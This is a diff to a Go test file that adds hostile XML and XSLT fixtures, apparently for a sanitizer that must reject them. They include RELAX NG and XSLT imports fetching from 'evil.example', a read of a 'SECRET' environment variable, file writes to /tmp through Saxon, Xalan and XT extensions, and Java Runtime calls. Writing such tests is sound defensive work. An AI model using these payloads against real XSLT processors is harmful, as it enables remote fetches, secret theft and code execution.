@@ -65,6 +65,13 @@ func hostileFetches() []recipe {
 		text(schemaImport, "schematron",
 			`<s:schema xmlns:s="http://purl.oclc.org/dsdl/schematron"><s:include href="http://evil.example/x.sch"/></s:schema>`),
 
+		text(schemaImport, "relaxng-include-by-a-prefix",
+			`<grammar xmlns="http://relaxng.org/ns/structure/1.0" xmlns:q="urn:q"><include q:href="x.rng"/></grammar>`),
+		text(schemaImport, "relaxng-external-by-its-own-prefix",
+			`<r:externalRef xmlns:r="http://relaxng.org/ns/structure/1.0" r:href="x.rng"/>`),
+		text(schemaImport, "relaxng-include-by-xlink",
+			`<grammar xmlns="http://relaxng.org/ns/structure/1.0"`+nsXLink+`><include xlink:href="x.rng"/></grammar>`),
+
 		text(external, "xlink-on-load",
 			`<a`+nsXLink+` xlink:type="simple" xlink:actuate="onLoad" xlink:href="http://evil.example/x"/>`),
 		text(external, "xlink-embed", `<a`+nsXLink+` xlink:show="embed" xlink:href="//evil.example/x"/>`),
@@ -104,6 +111,29 @@ func hostileStylesheets() []recipe {
 		text(xsltImport, "environment", sheet(`<xsl:value-of select="environment-variable('SECRET')"/>`)),
 		text(xsltImport, "file-module", sheet(`<xsl:value-of select="f:write-text('/tmp/x', 'y')"/>`)),
 		text(xsltImport, "package", sheet(`<xsl:use-package name="http://evil.example/p"/>`)),
+		text(xsltImport, "include-by-shadow", sheet(`<xsl:include _href="x.xsl"/>`)),
+		text(xsltImport, "import-by-computed-shadow", sheet(`<xsl:import _href="{concat('http://evil', '.example/')}"/>`)),
+		text(xsltImport, "computed-shadow", sheet(`<xsl:value-of _select="{'d'||'oc'}('x')"/>`)),
+		text(xsltImport, "document-of-1.1", sheet(`<xsl:document href="/tmp/x"/>`)),
+		text(xsltImport, "output-of-saxon", sheet(`<s:output href="/tmp/x" xmlns:s="http://icl.com/saxon"/>`)),
+		text(xsltImport, "document-of-xt", sheet(`<x:document href="/tmp/x" xmlns:x="http://www.jclark.com/xt"/>`)),
+		text(xsltImport, "write-of-redirect",
+			sheet(`<r:write file="/tmp/x" xmlns:r="org.apache.xalan.xslt.extensions.Redirect"/>`)),
+		text(xsltImport, "pipe", sheet(`<p:pipeDocument source="x" target="/tmp/x" `+
+			`xmlns:p="http://xml.apache.org/xalan/PipeDocument"/>`)),
+		text(xsltImport, "query", sheet(`<s:import-query href="http://evil.example/x.xq" xmlns:s="http://saxon.sf.net/"/>`)),
+		text(xsltImport, "merge", sheet(`<xsl:merge-source for-each-source="'http://evil.example/x'"/>`)),
+		text(xsltImport, "is-there-a-document", sheet(`<xsl:if test="doc-available('http://evil.example/x')"/>`)),
+		text(xsltImport, "is-there-a-text", sheet(`<xsl:if test="unparsed-text-available('http://evil.example/x')"/>`)),
+		text(xsltImport, "document-type-of-text",
+			sheet(`<xsl:copy-of select="parse-xml('&lt;!DOCTYPE a SYSTEM &quot;http://evil.example/&quot;>&lt;a/>')"/>`)),
+		text(active, "script-of-1.1", sheet(`<xsl:script language="java" implements-prefix="j" src="java:x"/>`)),
+		text(active, "script-of-exslt", sheet(`<f:script xmlns:f="http://exslt.org/functions" src="x.js"/>`)),
+		text(active, "class-of-java-without-declaration",
+			sheet(`<xsl:value-of select="Q{java:java.lang.Runtime}getRuntime()"/>`)),
+		text(active, "class-of-java-in-template", `<p xsl:version="3.0"`+nsXSL+
+			` title="{1 + Q{ java:java.lang.System }exit(1)}"/>`),
+		text(active, "database-of-xalan", sheet(`<p xmlns:sql="http://xml.apache.org/xalan/sql"/>`)),
 		text(active, "class-of-java", sheet(`<p xmlns:r="xalan://java.lang.Runtime"><xsl:value-of `+
 			`select="r:exec(r:getRuntime(), 'x')"/></p>`)),
 		text(active, "class-of-java-in-xalan", `<xsl:stylesheet version="1.0"`+nsXSL+
